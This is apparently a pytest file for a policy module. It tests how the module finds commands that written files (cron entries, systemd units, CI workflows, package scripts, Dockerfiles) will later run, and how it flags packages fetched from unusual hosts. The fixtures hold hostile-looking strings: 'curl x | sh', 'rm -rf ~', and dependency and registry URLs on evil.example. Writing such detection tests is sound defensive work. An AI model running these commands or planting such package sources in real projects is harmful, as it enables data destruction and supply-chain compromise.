"""What a written file will run later, and from where it will fetch."""

import time

import pytest

from policy.effects import Scope
from policy.stored import Stored, stored_in


def stored(path: str, content: str, scope: Scope = "project") -> Stored:
    return stored_in(path, scope, content)


@pytest.mark.parametrize(
    ("path", "scope", "content", "scripts"),
    [
        ("run.sh", "project", "rm -rf x", ("rm -rf x",)),
        ("tools/run", "project", "#!/usr/bin/env bash\nls", ("#!/usr/bin/env bash\nls",)),
        ("~/.bashrc", "startup", "ls", ("ls",)),
        (".git/hooks/pre-commit", "startup", "ls", ("ls",)),
        ("/etc/cron.d/x", "startup", "# m h\n* * * * * root curl x | sh\n@reboot root ls\n", ("curl x | sh", "ls")),
        ("~/.config/systemd/user/x.service", "startup", "[Service]\nExecStart=/bin/sh -c 'ls %h'\n", ("/bin/sh -c 'ls x'",)),
        ("package.json", "project", '{"scripts": {"postinstall": "echo \\"x\\"", "lint": "eslint"}}', ('echo "x"', "eslint")),
        (".github/workflows/x.yml", "project", "- run: make lint\n- name: x\n  run: |\n    ls ${{ secrets.A }}\n    pwd\n- uses: x\n",
         ("make lint", "ls $WORKFLOW_VALUE\npwd")),
        (".gitlab-ci.yml", "project", "test:\n  script:\n    - ls\n    - pwd\n", ("ls\npwd",)),
        ("Dockerfile", "project", "FROM x\nRUN ls && \\\n  pwd\nCMD [\"a\"]\n", ("ls && \\\n  pwd",)),
        ("Makefile", "project", "all:\n\t@ls $$HOME\n", ("ls $HOME",)),
        ("setup.py", "project", "x", ("python3 -c 'x'",)),
        (".vscode/tasks.json", "project", '{"command": "ls"}', ("ls",)),
        ("README.md", "project", "curl x | sh", ()),
        ("src/a.py", "project", "import os", ()),
        ("notes/cron.txt", "project", "* * * * * root ls", ()),
    ],
)  # fmt: skip
def test_scripts_of_files(path: str, scope: Scope, content: str, scripts: tuple[str, ...]) -> None:
    assert stored(path, content, scope).scripts == scripts


@pytest.mark.parametrize(
    ("path", "content", "scopes"),
    [
        ("requirements.txt", "requests==2.0\n", []),
        ("requirements.txt", "x @ git+https://evil.example/x.git\n", ["other"]),
        ("requirements.txt", "--extra-index" + "-url http://10.0.0.8/packages\n", ["private"]),
        ("requirements.txt", "--index" + "-url https://registry.npmjs.org/packages\n", []),
        ("package.json", '"left-pad": "https://evil.example/left-pad.tgz"', ["other"]),
        ("package.json", '"homepage": "https://us.example/", "version": "1.0.0"', []),
        (".npmrc", "registry=https://registry.npmjs.org/\n", []),
        (".npmrc", "registry=http://npm.evil.example/\n", ["other"]),
        ("README.md", "registry=http://npm.evil.example/\n", []),
    ],
)
def test_packages_from_unusual_places(path: str, content: str, scopes: list[Scope]) -> None:
    assert [(effect.kind, effect.scope) for effect in stored(path, content).effects] == [("execute", scope) for scope in scopes]


def test_the_time_is_linear() -> None:
    for path in (
        "x.sh",
        "crontab",
        "package.json",
        ".github/workflows/x.yml",
        "Dockerfile",
        "Makefile",
        "requirements.txt",
        "x.service",
        ".vscode/tasks.json",
    ):
        for content in (
            "\t" * 200_000,
            "run:" * 50_000,
            "\\\n" * 100_000,
            '"test":"' * 30_000,
            "* " * 100_000,
            "RUN " + "\\x" * 100_000,
            "run: |\n" * 40_000,
        ):
            began = time.process_time()
            stored(path, content)
            assert time.process_time() - began < 0.5


def test_a_file_that_runs_more_than_is_read_says_so() -> None:
    step = "      - run: make part{}\n"
    assert stored_in(".github/workflows/ci.yml", "project", "steps:\n" + step * 20).is_whole
    assert not stored_in(".github/workflows/ci.yml", "project", "steps:\n" + "".join(step.format(n) for n in range(65))).is_whole
    assert not stored_in("a.sh", "project", "#!/bin/sh\n" + "ls\n" * 30_000 + "rm -rf ~\n").is_whole
    assert stored_in("data.csv", "project", "1,2,3\n" * 30_000).is_whole
